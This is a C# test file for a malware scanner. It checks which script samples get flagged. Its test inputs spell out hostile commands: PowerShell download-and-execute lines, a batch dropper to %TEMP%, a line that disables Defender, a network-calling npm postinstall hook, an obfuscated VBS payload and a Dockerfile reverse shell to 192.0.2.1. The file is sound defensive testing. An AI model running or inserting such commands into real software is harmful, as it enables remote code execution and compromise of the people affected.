using System.Text;
using ScanHost.Formats.Containers;
using ScanHost.Pipeline.Tests.Doubles;

namespace ScanHost.Pipeline.Tests.Stages.Scripts;

/// <summary>What administrators, builders and defenders write, beside what looks like it and is no honest thing.</summary>
public sealed class HonestScriptTests
{
    [Theory]
    [InlineData("a.ps1", "Write-Host 'x'\niex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n", "ps.iex_download", false)]
    [InlineData("a.ps1", "Write-Host 'x'\niex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org.host.invalid/install.ps1'))\n", "ps.iex_download", true)]
    [InlineData("a.ps1", "Write-Host 'x'\nirm https://get.scoop.sh | iex\nirm https://host.invalid/a | iex\n", "ps.iex_download", true)]
    [InlineData("a.cmd", "@echo off\r\nif not exist tools\\a.exe curl -sSL -o tools\\a.exe https://host.invalid/a.exe\r\ntools\\a.exe restore\r\n", "bat.download", false)]
    [InlineData("a.cmd", "@echo off\r\nif not exist %TEMP%\\a.exe curl -sSL -o %TEMP%\\a.exe https://host.invalid/a.exe\r\n%TEMP%\\a.exe\r\n", "bat.download", true)]
    [InlineData("a.cmd", "@echo off\r\npowershell -NoProfile -ExecutionPolicy Bypass -File scripts\\sign.ps1\r\n", "ps.flags", false)]
    [InlineData("a.cmd", "@echo off\r\npowershell -NoProfile -ExecutionPolicy Bypass -File %TEMP%\\sign.ps1\r\n", "ps.flags", true)]
    [InlineData("a.ps1", "Set-MpPreference -DisableRealtimeMonitoring $false\n$x = $null\n", "ps.defender", false)]
    [InlineData("a.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true\n$x = $null\n", "ps.defender", true)]
    [InlineData("a.yar", "rule A\n{\n strings:\n  $a = \"IEX (New-Object Net.WebClient).DownloadString\"\n condition:\n  any of them\n}\n", "ps.iex_download", false)]
    [InlineData("a.kql", "Events | where Text has_any (\"FromBase64String\", \"VirtualAlloc\") and x -eq \"[System.\" and Invoke-Expression", "ps.b64_reflect", false)]
    [InlineData("package.json", "{\"name\":\"a\",\"scripts\":{\"postinstall\":\"node -e \\\"try{require('fs').copyFileSync('a','b',1)}catch(e){}\\\"\"}}", "pkg.install_hook_net", false)]
    [InlineData("package.json", "{\"name\":\"a\",\"scripts\":{\"postinstall\":\"node -e \\\"require('https').get('https://host.invalid')\\\"\"}}", "pkg.install_hook_net", true)]
    public async Task The_act_decides_and_not_the_word(string name, string text, string finding, bool isFound)
    {
        using var scans = new Scans { Readers = ContainerReaders.All };

        var outcome = await scans.ScanAsync(Encoding.UTF8.GetBytes(text), name);

        outcome.Findings.Any(one => one.Id == finding).Should().Be(isFound);
    }

    [Fact]
    public async Task Letters_of_which_every_fifth_counts_are_read()
    {
        using var scans = new Scans { Readers = ContainerReaders.All };
        var hidden = string.Concat("$u=(New-Object Net.WebClient).DownloadString('https://host.invalid/a');IEX($u)".Select(letter => $"Gru{letter}a"));

        var outcome = await scans.ScanAsync(Encoding.UTF8.GetBytes($"Dim a\r\nSet s = CreateObject(\"Shell.Application\")\r\nTake \"{hidden}\", a\r\n"), "a.vbs");

        outcome.Findings.Select(one => one.Id).Should().Contain("dec.literals").And.Contain("ps.iex_download");
    }

    [Fact]
    public async Task A_container_s_build_command_is_judged_as_the_script_that_it_is()
    {
        using var scans = new Scans { Readers = ContainerReaders.All };

        var outcome = await scans.ScanAsync("FROM a\nENTRYPOINT [\"sh\",\"-c\",\"bash -i >& /dev/tcp/192.0.2.1/443 0>&1\"]\n"u8.ToArray(), "Dockerfile");

        outcome.Findings.Select(one => one.Id).Should().Contain("sh.revshell");
    }
}
